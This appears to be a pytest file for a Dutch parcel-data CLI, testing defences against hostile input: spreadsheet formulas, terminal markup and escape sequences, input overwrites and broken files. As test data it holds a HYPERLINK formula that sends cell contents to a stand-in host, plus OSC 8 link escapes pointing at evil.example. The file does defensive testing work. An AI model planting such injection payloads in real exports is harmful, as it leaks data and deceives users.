"""Hostile and broken input (issue 10): no formulas, no markup, no destroyed inputs, no
"internal error", IBIS figures checked, overlaps near-linear, distinct map names."""

from __future__ import annotations

import os
import re

import openpyxl
import pandas as pd
import pytest
from conftest import cli, frame, parcel, read_cli_csv, rect
from rich.console import Console

from terreinen import validate
from terreinen.cli import screen as _screen
from terreinen.io.write import original_text

FORMULA = '=HYPERLINK("http://x/?"&A1,"Klik")'
LINK = "[link=https://evil.example]Broeklanden[/link]"
OSC8 = "\x1b]8;"


def write_parcels(folder, name="k.geojson", **fields):
    """Three 1 ha parcels in one park; ``fields`` override every parcel's values."""
    rows = [parcel(f"K{i}", rect(i * 100, 0, 100, 100), **fields) for i in range(3)]
    path = folder / name
    if path.suffix == ".csv":
        table = frame(rows).to_wkt()
        table.to_csv(path, index=False)
    else:
        frame(rows).to_file(path)
    return path


def write_agreements(folder, gebied: str, afspraak_id: str = "A-1"):
    path = folder / "agreements.csv"
    table = pd.DataFrame(
        {
            "afspraak_id": [afspraak_id],
            "gebied": [gebied],
            "niveau": ["gemeente"],
            "plancapaciteit": ["hard"],
            "max_ha": [5],
        }
    )
    table.to_csv(path, index=False)
    return path


def cells(path):
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def unprefix(value):
    """The documented CSV rule undone (terreinen.io.write.original_text)."""
    return original_text(value) if isinstance(value, str) else value


# --- 2. spreadsheet formulas -------------------------------------------------------------


def test_export_workbook_has_no_formula_cells(tmp_path):
    parcels = write_parcels(tmp_path, gemeente=FORMULA)
    assert cli("export", parcels, "--to", tmp_path / "x.xlsx").exit_code == 0
    found = cells(tmp_path / "x.xlsx")
    assert [c for c in found if c.data_type == "f"] == []  # 85 formula cells before
    literal = [c for c in found if c.value == FORMULA]
    assert literal and {c.data_type for c in literal} == {"s"}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("command", ["capacity", "agreements", "find", "ibis"])
def test_every_table_output_keeps_formulas_as_text(tmp_path, command, suffix):
    parcels = write_parcels(tmp_path, gemeente=FORMULA, terrein="@SUM(A1)")
    output = tmp_path / f"out{suffix}"
    args = {
        "capacity": ["capacity", parcels, "-o", output],
        "agreements": ["agreements", parcels, "-a", write_agreements(tmp_path, FORMULA, "-1+1")],
        "find": ["find", parcels, "-o", output],
        "ibis": ["export", parcels, "--format", "ibis", "--to", output],
    }[command]
    if command == "agreements":
        args += ["-o", output, "--as-of", "2026-01-01"]
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    if suffix == ".xlsx":
        values = [c.value for c in cells(output)]
        assert not [c for c in cells(output) if c.data_type == "f"]
    else:
        text = output.read_text(encoding="utf-8-sig")  # the Dutch dialect's BOM
        values = [unprefix(v) for v in read_cli_csv(output, dtype=str).stack()]
        assert "\n=" not in text and ";=" not in text and ";@" not in text
    assert FORMULA in values
    if command in ("find", "ibis"):
        assert "@SUM(A1)" in values
    if command == "agreements":
        assert "-1+1" in values


def test_csv_to_the_screen_keeps_formulas_as_text(tmp_path):
    result = cli("capacity", write_parcels(tmp_path, gemeente=FORMULA), "-f", "csv")
    assert result.stdout.splitlines()[1].startswith("\"'=HYPERLINK(")


# --- 3. terminal markup ------------------------------------------------------------------


@pytest.fixture
def terminal(monkeypatch):
    """The command line's consoles as on a colour terminal (where links would be drawn)."""
    for console in (_screen.out, _screen.err):
        monkeypatch.setattr(console, "_force_terminal", True)
        monkeypatch.setattr(console, "_color_system", console._detect_color_system())
        monkeypatch.setattr(console, "_width", 10_000)  # cells whole, not wrapped


def test_the_terminal_fixture_would_show_a_link(terminal, capsys):
    _screen.out.print(LINK)  # markup, as printing data used to be
    assert OSC8 in capsys.readouterr().out


def test_markup_in_a_status_is_a_plain_finding(tmp_path):
    result = cli("validate", write_parcels(tmp_path, status="[/red]verkocht"))
    assert result.exit_code == 1
    assert "MarkupError" not in result.stderr and "internal error" not in result.stderr
    assert "'[/red]verkocht'" in result.stderr


@pytest.mark.parametrize("command", ["capacity", "agreements", "find"])
def test_links_in_names_print_literally_in_tables(tmp_path, terminal, command):
    parcels = write_parcels(tmp_path, gemeente=LINK, terrein=LINK)
    args = {
        "capacity": ["capacity", parcels, "--by", "terrein"],
        "agreements": ["agreements", parcels, "-a", write_agreements(tmp_path, LINK, LINK)],
        "find": ["find", parcels],
    }[command]
    result = cli(*args, "--as-of", "2026-01-01")
    assert result.exit_code == 0, result.stderr
    assert OSC8 not in result.stdout + result.stderr
    assert LINK in re.sub(r"\x1b\[[0-9;]*m", "", result.stdout)  # colours aside


def test_hostile_names_in_messages_and_file_names(tmp_path, terminal):
    parcels = write_parcels(tmp_path, status=LINK, gemeente="[bold]x")
    result = cli("validate", parcels)
    assert result.exit_code == 1 and repr(LINK) in result.stderr
    assert OSC8 not in result.stderr
    output = tmp_path / "[link=file:x]wrote[bold] \x1b[31m.csv"
    result = cli("capacity", write_parcels(tmp_path, name="ok.geojson"), "-o", output)
    assert result.exit_code == 0, result.stderr
    assert str(output).replace("\x1b", "\\x1b") in result.stderr
    assert OSC8 not in result.stderr and "\x1b[31m" not in result.stderr


def test_control_characters_from_the_data_never_reach_the_terminal(tmp_path):
    escape = "Park\x1b]8;;https://evil.example\x1b\\x"
    result = cli("capacity", write_parcels(tmp_path, terrein=escape), "--by", "terrein")
    assert "\x1b" not in result.stdout
    assert "Park\\x1b]8;;https://evil.example\\x1b\\x" in result.stdout


def test_emoji_codes_print_as_written(tmp_path):
    result = cli("capacity", write_parcels(tmp_path, gemeente=":thumbs_up:"))
    assert ":thumbs_up:" in result.stdout


# --- 4. never destroy the input ----------------------------------------------------------


def test_capacity_refuses_to_overwrite_its_parcels(tmp_path):
    parcels = write_parcels(tmp_path, name="k.csv")
    before = parcels.read_bytes()
    result = cli("capacity", parcels, "-f", "csv", "-o", parcels)
    assert result.exit_code == 2 and "never overwrites its inputs" in result.stderr
    assert parcels.read_bytes() == before


@pytest.mark.parametrize("how", ["symlink", "hardlink"])
def test_links_to_an_input_are_refused(tmp_path, how):
    parcels = write_parcels(tmp_path, name="k.csv")
    before = parcels.read_bytes()
    alias = tmp_path / "alias.csv"
    (alias.symlink_to if how == "symlink" else alias.hardlink_to)(parcels)
    result = cli("capacity", parcels, "-o", alias)
    assert result.exit_code == 2 and "never overwrites its inputs" in result.stderr
    assert parcels.read_bytes() == before


def test_every_input_is_protected(tmp_path):
    parcels = write_parcels(tmp_path)
    agreements = write_agreements(tmp_path, "Assen")
    regions = tmp_path / "gemeenten.csv"
    regions.write_text("gemeente,provincie,regio\nAssen,Drenthe,Noord\n")
    saved = {p: p.read_bytes() for p in (parcels, agreements, regions)}
    attempts = [
        ["agreements", parcels, "-a", agreements, "-o", agreements],
        ["agreements", parcels, "-a", agreements, "--regions", regions, "-o", regions],
        ["capacity", parcels, "--regions", regions, "-o", regions],
        ["export", parcels, "-a", agreements, "--format", "ibis", "--to", agreements],
        ["map", parcels, "--boundaries", parcels, "-o", parcels],
        ["find", parcels, "--map", parcels],
    ]
    for args in attempts:
        result = cli(*args)
        assert result.exit_code == 2, (args, result.stderr)
        assert "never overwrites its inputs" in result.stderr, args
    assert {p: p.read_bytes() for p in saved} == saved


def test_fifo_targets_are_refused(tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    result = cli("capacity", write_parcels(tmp_path), "-o", tmp_path / "pipe.csv")
    assert result.exit_code == 2 and "not a regular file" in result.stderr


@pytest.fixture
def tiny_disk(tmp_path):
    """A 64 kB tmpfs (root only); skipped where it cannot be mounted."""
    folder = tmp_path / "disk"
    folder.mkdir()
    if os.geteuid() != 0 or os.system(f"mount -t tmpfs -o size=64k tmpfs {folder} 2>/dev/null"):
        pytest.skip("cannot mount a tmpfs here")
    yield folder
    os.system(f"umount {folder}")


@pytest.mark.parametrize("suffix", [".gpkg", ".geojson"])
def test_full_disk_while_exporting_is_a_plain_message(tmp_path, tiny_disk, embedded_path, suffix):
    result = cli("export", embedded_path, "--to", tiny_disk / f"x{suffix}")
    assert result.exit_code == 2, result.stderr
    assert "the disk is full; nothing was written" in result.stderr
    assert list(tiny_disk.iterdir()) == []


# --- 5. ordinary bad input is never an "internal error" ----------------------------------


@pytest.mark.parametrize(
    ("fields", "crs", "message"),
    [
        ({}, "nonsense", "'nonsense' is not a coordinate system terreinen knows"),
        ({}, "EPSG:999999", "'EPSG:999999' is not a coordinate system terreinen knows"),
        ({}, "EPSG:4326", "the coordinates are RD New metres, not the degrees of EPSG:4326"),
        ({"prijs_m2": float("inf")}, None, "is not a finite number"),
        ({"laatst_bijgewerkt": "0001-01-01"}, None, "0001-01-01"),
    ],
)
def test_bad_values_are_findings(tmp_path, fields, crs, message):
    parcels = write_parcels(tmp_path, name="k.csv", **fields)
    result = cli("validate", parcels, *(["--crs", crs] if crs else []))
    assert result.exit_code == 1
    assert message in result.stderr and "internal error" not in result.stderr


def test_a_date_with_an_offset_among_plain_dates_is_read(tmp_path):
    rows = [
        parcel("A", rect(0, 0, 100, 100), laatst_bijgewerkt="2024-03-01"),
        parcel("B", rect(100, 0, 100, 100), laatst_bijgewerkt="2024-03-01T10:00:00+02:00"),
    ]
    frame(rows).to_wkt().to_csv(tmp_path / "k.csv", index=False)
    report = validate(tmp_path / "k.csv")
    assert report.ok, str(report)
    assert cli("capacity", tmp_path / "k.csv").exit_code == 0


def test_map_of_a_file_with_inf_is_refused_not_crashed(tmp_path):
    parcels = write_parcels(tmp_path, name="k.csv", prijs_m2=float("inf"))
    result = cli("map", parcels, "-o", tmp_path / "m.html")
    assert result.exit_code == 2 and "is not a finite number" in result.stderr
    assert not (tmp_path / "m.html").exists()


def broken_files(folder):
    """Ordinary broken inputs, each with the name it has."""
    cases = {}
    (folder / "empty.geojson").write_bytes(b"")
    cases["empty"] = folder / "empty.geojson"
    (folder / "binary.geojson").write_bytes(bytes(range(256)) * 4)
    cases["binary"] = folder / "binary.geojson"
    (folder / "zip.gpkg").write_bytes(b"PK\x03\x04" + bytes(200))
    cases["binary gpkg"] = folder / "zip.gpkg"
    (folder / "text.xlsx").write_text("kavel_id,geometry\nA,POINT (1 2)\n")
    cases["wrong extension"] = folder / "text.xlsx"
    (folder / "folder.geojson").mkdir()
    cases["folder"] = folder / "folder.geojson"
    (folder / "columns.csv").write_text("a,b\n1,2\n")
    cases["no geometry"] = folder / "columns.csv"
    pd.DataFrame({"a": [1], "geometry": ["POLYGON ((0 0, 1 0, 1 1, 0 0))"]}).to_csv(
        folder / "missing.csv", index=False
    )
    cases["missing columns"] = folder / "missing.csv"
    (folder / "header.csv").write_text("kavel_id,geometry\n")
    cases["header only"] = folder / "header.csv"
    (folder / "cut.geojson").write_text('{"type": "FeatureCollection", "features": [')
    cases["cut off"] = folder / "cut.geojson"
    cases["missing"] = folder / "nothing.geojson"
    return cases


COMMANDS = [
    ["validate"],
    ["capacity"],
    ["agreements", "-a", "AGREEMENTS"],
    ["map", "-o", "OUT/m.html"],
    ["overview", "--out-dir", "OUT"],
    ["find"],
    ["export", "--to", "OUT/x.xlsx"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: c[0])
def test_broken_parcels_files_never_crash_a_command(tmp_path, command):
    agreements = write_agreements(tmp_path, "Assen")
    (tmp_path / "out").mkdir()
    for case, path in broken_files(tmp_path).items():
        args = [str(a).replace("AGREEMENTS", str(agreements)) for a in command]
        args = [a.replace("OUT", str(tmp_path / "out")) for a in args]
        result = cli(args[0], path, *args[1:])
        said = result.stdout + result.stderr
        assert result.exit_code in (1, 2), (case, said)
        assert "internal error" not in said and "Traceback" not in said, (case, said)
        assert str(path.name) in said, (case, said)
    assert list((tmp_path / "out").iterdir()) == []


def test_broken_files_never_crash_partition(tmp_path):
    pytest.importorskip("dask_geopandas")
    for case, path in broken_files(tmp_path).items():
        result = cli("partition", path, tmp_path / "parts")
        said = result.stdout + result.stderr
        assert result.exit_code == 2, (case, said)
        assert "internal error" not in said and "Traceback" not in said, (case, said)
    assert not (tmp_path / "parts").exists()


@pytest.mark.parametrize("option", ["-a", "--regions", "--boundaries"])
def test_broken_tables_never_crash(tmp_path, option):
    parcels = write_parcels(tmp_path)
    command = "map" if option == "--boundaries" else "agreements"
    if option == "--regions":
        extra = ["-a", write_agreements(tmp_path, "Assen")]
    else:
        extra = ["-a", write_agreements(tmp_path, "Assen")] if command == "agreements" else []
    (tmp_path / "t").mkdir()
    for case, path in broken_files(tmp_path / "t").items():
        args = [command, parcels, *extra, option, path, "--as-of", "2026-01-01"]
        if command == "map":
            args += ["-o", tmp_path / "m.html"]
        result = cli(*args)
        said = result.stdout + result.stderr
        assert result.exit_code in (1, 2), (case, said)
        assert "internal error" not in said and "Traceback" not in said, (case, said)


def test_findings_of_tables_and_unnamed_parcels_name_no_kavel_id(tmp_path):
    path = tmp_path / "agreements.csv"
    path.write_text("afspraak_id,gebied,niveau,plancapaciteit,max_ha\nA,Assen,gemeente,hard,x\n")
    result = cli("agreements", write_parcels(tmp_path), "-a", path)
    assert result.exit_code == 2 and "row 1, column 'max_ha'" in result.stderr
    assert "kavel_id" not in result.stderr
    report = validate(frame([parcel(None, rect(0, 0, 100, 100))]))
    assert [str(f) for f in report.errors] == ["error: row 1, column 'kavel_id': value is missing"]


# --- 6. IBIS tables checked like parcels --------------------------------------------------


def test_impossible_ibis_park_figures_are_findings(tmp_path):
    table = pd.DataFrame(
        {
            "RIN_NUMMER": ["1", "2", "3", "4"],
            "PLAN_NAAM": ["Goed", "Te vol", "Netto te groot", "Romeins"],
            "GEMEENTE": ["Assen"] * 4,
            "OPPBRUTO": [100_000, 100_000, 100_000, 100_000],
            "OPPNETTO": [90_000, 90_000, 120_000, 90_000],
            "UITGEGEVEN": [5.0, 8.0, 1.0, 1.0],
            "TERSTOND_UITGEEFBAAR": [2.0, 2.5, 1.0, 1.0],
            "NIET_TERSTOND_UITGEEFBAAR": [1.0, 0.5, 0.0, 0.0],
            "MAX_MILIEUCATEGORIE": ["3", "4", "2", "III"],
        }
    )
    table.to_csv(tmp_path / "ibis.csv", index=False)
    report = validate(tmp_path / "ibis.csv")
    found = {(f.row, f.column): f.message for f in report.errors}
    assert set(found) == {(2, "oppbruto"), (3, "oppnetto"), (4, "max_milieucategorie")}
    assert "11.00 ha) exceeds the gross area 10.00 ha" in found[2, "oppbruto"]
    assert "net area 12.00 ha is larger than the gross area 10.00 ha" in found[3, "oppnetto"]
    assert "'III'" in found[4, "max_milieucategorie"]
    result = cli("capacity", tmp_path / "ibis.csv")
    assert result.exit_code == 2 and "row 2" in result.stderr


# --- 7. overlaps on pathological files ---------------------------------------------------


def test_identical_and_stacked_parcels_are_reported_per_parcel(tmp_path):
    same = [parcel(f"S{i}", rect(0, 0, 100, 100)) for i in range(300)]
    # stacked: each 5 cm further east, so every pair overlaps by more than 70%
    stacked = [parcel(f"T{i}", rect(1_000 + 0.05 * i, 0, 100, 100)) for i in range(300)]
    report = validate(frame(same + stacked))
    assert report.ok
    by_id = {f.kavel_id: f.message for f in report.warnings}
    copies = [k for k, m in by_id.items() if "same outline as kavel_id 'S0' (row 1)" in m]
    assert sorted(copies) == sorted(f"S{i}" for i in range(1, 300))
    assert "T0" not in by_id  # each overlap is told once, at the later parcel
    assert by_id["T1"] == ("overlaps kavel_id 'T0' (row 301) by 100% (share of the smaller parcel)")
    last = by_id["T299"]
    assert last.startswith("overlaps kavel_id 'T0' (row 301) by 85%, kavel_id 'T1' (row 302)")
    # beyond the first 20 pairs per parcel the others are counted, not measured
    assert last.endswith("and 296 more parcels more than 2 cm deep (share of the smaller parcel)")
    assert len(report.warnings) == 299 + 299


# --- 8. small holes ----------------------------------------------------------------------


def test_colliding_municipality_names_get_distinct_maps(tmp_path):
    rows = [
        parcel("A", rect(0, 0, 100, 100, "Hardenberg"), gemeente="Hardenberg"),
        parcel("B", rect(200, 0, 100, 100, "Hardenberg"), gemeente="HARDENBERG"),
    ]
    frame(rows).to_file(tmp_path / "k.geojson")
    result = cli("overview", tmp_path / "k.geojson", "--out-dir", tmp_path / "maps")
    assert result.exit_code == 0, result.stderr
    names = sorted(p.name for p in (tmp_path / "maps").iterdir())
    assert names == ["hardenberg-2.html", "hardenberg.html", "overview.html"]
    first = (tmp_path / "maps" / "hardenberg.html").read_text()
    second = (tmp_path / "maps" / "hardenberg-2.html").read_text()
    assert first != second


def test_rich_console_used_for_data_is_plain():
    assert not _screen.out._emoji and not _screen.err._emoji
    assert isinstance(_screen.out, Console)
